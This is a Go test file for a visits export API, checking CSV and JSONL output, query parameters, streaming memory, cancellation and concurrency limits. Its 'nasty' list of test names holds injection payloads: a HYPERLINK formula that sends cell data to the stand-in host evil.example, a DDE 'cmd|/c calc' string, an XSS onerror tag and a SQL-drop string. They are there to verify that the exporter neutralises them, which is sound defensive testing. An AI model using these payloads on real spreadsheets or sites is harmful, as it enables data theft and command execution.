package api_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"runtime"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"throng"
	"throng/internal/api"
)

// exported are the lines of an export.
func exported(w *world, body string) []string {
	w.Helper()
	status, answer := w.request(http.MethodPost, "/api/visits_export", body)
	if status != 200 {
		w.Fatalf("%s: %d %s", body, status, answer)
	}
	return strings.Split(strings.TrimSuffix(string(answer), "\n"), "\n")
}

// Names that a spreadsheet would take for a formula, and such as break a careless CSV.
var nasty = []string{
	`=HYPERLINK("http://evil.example/?"&A1)`, "+1", "-1", "@SUM(A1)", "\tx", "\rx", "a,b", `a"b`, "two\nlines", `<img src=x onerror=alert(1)>`,
	"'; drop table visits", "👩‍🚀", strings.Repeat("x", throng.MaxVisitUserBytes), "' already", `\.`,
	`room:x;=cmd|'/c calc'!A1;y`, "a\t+1", "two\n=lines", "a;-1;@b", `a;"=1"`, "a; =1", "a-b@c=d+e;f", "+1;=2",
}

// harmless are those of them that a table has otherwise than they are.
var harmless = map[string]string{
	`=HYPERLINK("http://evil.example/?"&A1)`: `'=HYPERLINK("http://evil.example/?"&A1)`,
	"+1":                                     "'+1", "-1": "'-1", "@SUM(A1)": "'@SUM(A1)", "\tx": "'\tx", "\rx": "'\rx",
	`room:x;=cmd|'/c calc'!A1;y`: `room:x;'=cmd|'/c calc'!A1;y`, "a\t+1": "a\t'+1", "two\n=lines": "two\n'=lines",
	"a;-1;@b": "a;'-1;'@b", `a;"=1"`: `a;"'=1"`, "a; =1": "a; '=1", "+1;=2": "'+1;'=2",
}

func nastyBooks(t *testing.T) *books {
	t.Helper()
	b := emptyBooks(t)
	var f throng.VisitFlush
	for i, user := range nasty {
		f.Closed = append(f.Closed, b.visited(user, "", throng.Connected, int64(i), int64(i)+1, throng.VisitLeft))
	}
	b.write(t, f)
	return b
}

func TestExportCSV(t *testing.T) {
	b := nastyBooks(t)
	w := over(t, api.Options{Records: b})
	status, answer := w.request(http.MethodGet, "/api/visits_export", "")
	if status != 200 {
		t.Fatalf("%d %s", status, answer)
	}
	rows, err := csv.NewReader(bytes.NewReader(answer)).ReadAll()
	if err != nil || len(rows) != len(nasty)+1 {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	if got := strings.Join(rows[0], ","); got != "user,channel,kind,node,started_at,ended_at,ms,reason" {
		t.Error(got)
	}
	for i, row := range rows[1:] { // the newest first
		user := nasty[len(nasty)-1-i]
		want, changed := harmless[user]
		if !changed {
			want = user
		}
		if row[0] != want || row[6] != "60000" || row[7] != "left" {
			t.Errorf("%q, want %q", row, want)
		}
		began, err := time.Parse(time.RFC3339, row[4])
		if err != nil || began.UnixMilli() != b.day+int64(len(nasty)-1-i)*minute {
			t.Errorf("%s: %v", row[4], err)
		}
	}
}

// Spreadsheets take what stands between two cell ends for a cell, whichever byte of
// these their country has, and care for quotes only where they begin one.
func TestExportHasNoFormulas(t *testing.T) {
	w := over(t, api.Options{Records: nastyBooks(t)})
	status, answer := w.request(http.MethodGet, "/api/visits_export", "")
	if status != 200 {
		t.Fatalf("%d %s", status, answer)
	}
	for _, separator := range ",;\t" {
		cells := strings.FieldsFunc(string(answer), func(r rune) bool { return r == separator || r == '\n' || r == '\r' })
		if len(cells) < len(nasty) {
			t.Fatalf("%d cells", len(cells))
		}
		for _, cell := range cells {
			if bare := strings.TrimLeft(cell, ` "`); bare != "" && strings.IndexByte("=+-@", bare[0]) >= 0 {
				t.Errorf("a spreadsheet whose cells end at %q would run %q", separator, cell)
			}
		}
	}
}

// JSON lines have names as they are.
func TestExportLines(t *testing.T) {
	w := over(t, api.Options{Records: nastyBooks(t)})
	lines := exported(w, `{"format":"jsonl"}`)
	if len(lines) != len(nasty) {
		t.Fatalf("%d lines", len(lines))
	}
	schema := w.doc.Paths.Value("/api/visits_export").Post.Responses.Value("200").Value.Content.Get("application/x-ndjson").Schema.Value
	for i, line := range lines {
		var v visitAnswer
		var any any
		if err := errors.Join(json.Unmarshal([]byte(line), &v), json.Unmarshal([]byte(line), &any)); err != nil {
			t.Fatalf("%v: %s", err, line)
		}
		if err := schema.VisitJSON(any); err != nil || v.User != nasty[len(nasty)-1-i] || v.MS != minute {
			t.Errorf("%v: %s", err, line)
		}
	}
}

// The URL says what a body does, and a parameter that nobody knows is no filter.
func TestExportByURL(t *testing.T) {
	w := over(t, api.Options{Records: someBooks(t)})
	for query, want := range map[string]int{
		"?format=jsonl": 3, "?format=jsonl&user=anna": 2, "?format=jsonl&any_channel": 6, "?format=jsonl&any_channel=true&kind=watching": 1,
		"?format=jsonl&open=1": 1, "?format=jsonl&from=-1m": 1, "?format=jsonl&shortest_ms=7200000": 1, "?user=nobody": 1, "?format=csv&user=anna": 3,
	} {
		status, answer := w.request(http.MethodGet, "/api/visits_export"+query, "")
		if got := strings.Count(string(answer), "\n"); status != 200 || got != want {
			t.Errorf("%s: %d, %d lines, want %d: %s", query, status, got, want, answer)
		}
	}
	for query, member := range map[string]string{
		"?usr=anna": "usr: there is no such parameter", "?open=perhaps": "open: ", "?shortest_ms=1h": "shortest_ms: ", "?format=xml": "format: ",
		"?user=a&user=b": "user: it comes once", "?from=then": "from: ", "?key=dev": "key: ",
	} {
		status, answer := w.request(http.MethodGet, "/api/visits_export"+query, "")
		if status != 400 || !strings.Contains(string(answer), member) {
			t.Errorf("%s: %d %s", query, status, answer)
		}
	}
	if status, _ := w.request(http.MethodPut, "/api/visits_export", ""); status != http.StatusMethodNotAllowed {
		t.Errorf("PUT: %d", status)
	}
	w.key = "wrong"
	if status, _ := w.request(http.MethodGet, "/api/visits_export", ""); status != http.StatusUnauthorized {
		t.Errorf("a wrong key: %d", status)
	}
}

// Lists of commands can't have what streams.
func TestExportIsNoCommand(t *testing.T) {
	w := over(t, api.Options{Records: someBooks(t)})
	if got := string(w.post("batch", `{"commands":[{"visits_export":{}},{"visits_online":{"count":true}}]}`)); !strings.Contains(got, `"code":104`) ||
		!strings.Contains(got, `{"visits_online":{"total":1,"users":[]}}`) {
		t.Error(got)
	}
	if _, got := w.request(http.MethodPost, "/api", `{"method":"visits_export"}`); !strings.Contains(string(got), `"code":104`) {
		t.Errorf("%s", got)
	}
}

// meter is a client that takes everything, and now and then looks at what is live.
type meter struct {
	header       http.Header
	lines        int
	pieces       int
	live, before uint64
}

// Header implements http.ResponseWriter.
func (m *meter) Header() http.Header { return m.header }

// WriteHeader implements http.ResponseWriter.
func (m *meter) WriteHeader(int) {}

// Write implements http.ResponseWriter.
func (m *meter) Write(b []byte) (int, error) {
	m.lines += bytes.Count(b, []byte("\n"))
	return len(b), nil
}

// Flush implements http.Flusher.
func (m *meter) Flush() {
	if m.pieces++; m.pieces%20 == 1 {
		m.live = max(m.live, liveHeap())
	}
}

func liveHeap() uint64 {
	runtime.GC()
	var s runtime.MemStats
	runtime.ReadMemStats(&s)
	return s.HeapAlloc
}

// 100,000 visits take no more memory than a piece of them.
func TestExportOfMany(t *testing.T) {
	const group = 10_000
	many := 100_000
	if underRace { // SQLite is Go too
		many = group
	}
	b := emptyBooks(t)
	for i := 0; i < many; i += group {
		var f throng.VisitFlush
		for j := i; j < i+group; j++ {
			f.Closed = append(f.Closed, b.visited(fmt.Sprintf("user-%06d", j), "", throng.Connected, int64(j%1000), int64(j%1000)+5, throng.VisitLeft))
		}
		b.write(t, f)
	}
	a, all := api.New(api.Options{Records: b, Clock: throng.NewClock(), MaxBody: 1 << 20}), []string{api.Any}
	a.SetKeys(api.NewKeys(api.Key{Name: "dev", Sum: api.Sum("dev"), Methods: all, Namespaces: all}))
	for _, format := range []string{"csv", "jsonl"} {
		r := httptest.NewRequest(http.MethodGet, "/api/visits_export?format="+format, nil)
		r.Header.Set("X-API-Key", "dev")
		m := &meter{header: make(http.Header), before: liveHeap()}
		begin := time.Now()
		a.ServeHTTP(m, r)
		took := time.Since(begin)
		want := many
		if format == "csv" {
			want++
		}
		grown := int64(m.live) - int64(m.before)
		t.Logf("%s: %d lines in %d pieces, %v, live heap grew by %d KiB at most", format, m.lines, m.pieces, took.Round(time.Millisecond), grown>>10)
		if m.lines != want || m.pieces != many/1000 {
			t.Errorf("%s: %d lines in %d pieces", format, m.lines, m.pieces)
		}
		if grown > 4<<20 {
			t.Errorf("%s: the live heap grew by %d bytes", format, grown)
		}
	}
}

// ceaseless are books without end, which may be slow or fail.
type ceaseless struct {
	throng.Records
	pages atomic.Int64
	fail  int64         // the page that can't be read
	last  int64         // the last page; 0 for none
	slow  time.Duration // what a page takes
}

// Sessions implements throng.Records.
func (e *ceaseless) Sessions(ctx context.Context, _ throng.VisitFilter, p throng.Page) ([]throng.Visit, string, error) {
	n := e.pages.Add(1)
	switch {
	case n == e.fail:
		return nil, "", errors.New("the store went away")
	case ctx.Err() != nil:
		return nil, "", ctx.Err()
	}
	time.Sleep(e.slow)
	page := make([]throng.Visit, p.Limit)
	for i := range page {
		page[i] = throng.Visit{User: "somebody with a name", StartedAt: 1, EndedAt: 2, Reason: throng.VisitLeft}
	}
	if n == e.last {
		return page, "", nil
	}
	return page, "more", nil
}

// export begins an export.
func (w *world) export() *http.Response {
	w.Helper()
	r, err := http.NewRequestWithContext(w.Context(), http.MethodGet, w.url+"/api/visits_export?format=jsonl", nil)
	if err != nil {
		w.Fatal(err)
	}
	r.Header.Set("X-API-Key", w.key)
	res, err := w.client.Do(r)
	if err != nil {
		w.Fatal(err)
	}
	return res
}

// A client that hangs up, or takes nothing, ends the reading of the books.
func TestExportStops(t *testing.T) {
	e := &ceaseless{}
	w := over(t, api.Options{Records: e})
	res := w.export()
	if _, err := io.ReadFull(res.Body, make([]byte, 1<<20)); err != nil {
		t.Fatal(err)
	}
	still := func() bool { // who does not read holds it up
		before := e.pages.Load()
		time.Sleep(50 * time.Millisecond)
		return e.pages.Load() == before
	}
	w.eventually("it waits for the client", still)
	res.Body.Close()
	w.eventually("it has ended", func() bool {
		before := e.pages.Load()
		other := w.export()
		other.Body.Close()
		return other.StatusCode == 200 && e.pages.Load() > before && still()
	})
}

// What fails on the way is cut off and can't be taken for the whole; before the first
// byte it is an error.
func TestExportFails(t *testing.T) {
	w := over(t, api.Options{Records: &ceaseless{fail: 3}})
	res := w.export()
	b, err := io.ReadAll(res.Body)
	res.Body.Close()
	if !errors.Is(err, io.ErrUnexpectedEOF) || bytes.Count(b, []byte("\n")) != 2000 || strings.Contains(string(b), "went away") {
		t.Errorf("%v after %d lines", err, bytes.Count(b, []byte("\n")))
	}
	w = over(t, api.Options{Records: &ceaseless{fail: 1}})
	status, answer := w.request(http.MethodGet, "/api/visits_export", "")
	if status != 500 || !strings.Contains(string(answer), `"code":100`) {
		t.Errorf("%d %s", status, answer)
	}
}

// An export may take longer than a request may be on its way.
func TestExportTakesItsTime(t *testing.T) {
	books := &ceaseless{last: 8, slow: 250 * time.Millisecond}
	w := served(t, alone(api.Options{Records: books}), time.Second) // which is not for the answer
	res := w.export()
	defer res.Body.Close()
	b, err := io.ReadAll(res.Body)
	if err != nil || bytes.Count(b, []byte("\n")) != 8000 {
		t.Errorf("%v after %d lines", err, bytes.Count(b, []byte("\n")))
	}
}

func TestExportsAtOnce(t *testing.T) {
	w := over(t, api.Options{Records: &ceaseless{}})
	var open []*http.Response
	for range 4 {
		res := w.export()
		defer res.Body.Close()
		if res.StatusCode != 200 {
			t.Fatalf("%d", res.StatusCode)
		}
		open = append(open, res)
	}
	status, answer := w.request(http.MethodGet, "/api/visits_export", "")
	if status != http.StatusTooManyRequests || !strings.Contains(string(answer), `"code":111`) {
		t.Errorf("%d %s", status, answer)
	}
	open[0].Body.Close()
	w.eventually("there is room again", func() bool {
		res := w.export()
		res.Body.Close()
		return res.StatusCode == 200
	})
}
